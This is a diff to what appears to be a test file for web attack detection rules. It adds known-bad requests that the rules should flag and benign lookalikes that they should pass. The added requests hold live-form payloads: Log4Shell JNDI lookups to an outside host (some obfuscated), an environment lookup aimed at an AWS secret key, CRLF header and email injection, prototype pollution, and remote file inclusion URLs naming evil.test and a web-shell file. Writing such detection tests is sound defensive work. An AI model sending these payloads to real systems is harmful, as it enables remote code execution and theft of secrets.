@@ -89,6 +89,20 @@ HITS = [
     (20603, _body("application/json", b'{"__proto__": {"isAdmin": true}}')),
     (20603, _query("1", "a[__proto__][admin]")),
     (20603, _body("application/json", b'{"constructor": {"prototype": {"x": 1}}}')),
+    (20603, _body("application/json-patch+json", b'[{"op": "add", "path": "/__proto__/admin", "value": true}]')),
+    (20701, Request("GET", "/", [*HEADERS[:1], ("User-Agent", "${jndi:ldap://198.51.100.12:1389/a}")])),
+    (20701, Request("GET", "/", [*HEADERS, ("Referer", "${${lower:j}${lower:n}${lower:d}i:ldap://198.51.100.12/r}")])),
+    (20701, Request("GET", "/", [*HEADERS, ("X-Api-Version", "${${::-j}ndi:rmi://198.51.100.12/o}")])),
+    (20701, _path("/api/items/%24%7Benv%3AAWS_SECRET_ACCESS_KEY%7D")),
+    (20702, _query("en\r\nX-Injected: yes", "lang")),
+    (20702, _body("application/x-www-form-urlencoded", b"email=me%40example.test%0D%0ABcc%3A+list%40example.test")),
+    (20703, _path("/out?u=%E5%98%8D%E5%98%8ASet-Cookie:%20x=1")),
+    (20704, _query("ftp://anonymous@198.51.100.23/pub/x.php", "file")),
+    (20704, _query("\\\\198.51.100.23\\share\\x.php", "tpl")),
+    (20704, _query("//198.51.100.23/inc/boot.php", "lib")),
+    (20704, _query("hTtPs://evil.test/a.txt", "content")),
+    (20705, _query("http://198.51.100.23/r57.php", "q")),
+    (20705, _query("https://evil.test/lang.txt?", "x")),
 ]
 
 MISSES = [
@@ -116,6 +130,11 @@ MISSES = [
     _query("https://cdn.example.test/127.0.0.1.png", "u"),
     _body("application/json", b'{"text": "the proto file and the constructor of the prototype car"}'),
     _query("https", "proto"),
+    Request("GET", "/", [*HEADERS, ("X-Template", "Total: ${price} for ${HOME}")]),
+    _query("Hello team,\r\nSubject: the plan for Monday is below", "message"),
+    _query("https://example.test/articles/42", "next"),
+    _query("https://example.test/docs/file.txt", "share"),
+    _query("/local/path/page", "page"),
 ]
 
 
